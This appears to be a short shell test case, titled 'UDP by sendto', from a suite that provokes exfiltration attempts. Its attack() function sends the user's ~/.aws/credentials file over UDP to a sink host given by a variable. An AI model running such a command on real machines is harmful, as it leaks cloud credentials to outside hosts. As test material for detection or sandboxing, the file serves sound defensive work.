# SPDX-License-Identifier: Apache-2.0
TITLE="UDP by sendto"
attack() { "$PROVOKE/datagram" sendto "$HOME/.aws/credentials" "$SINK4" 9000; }
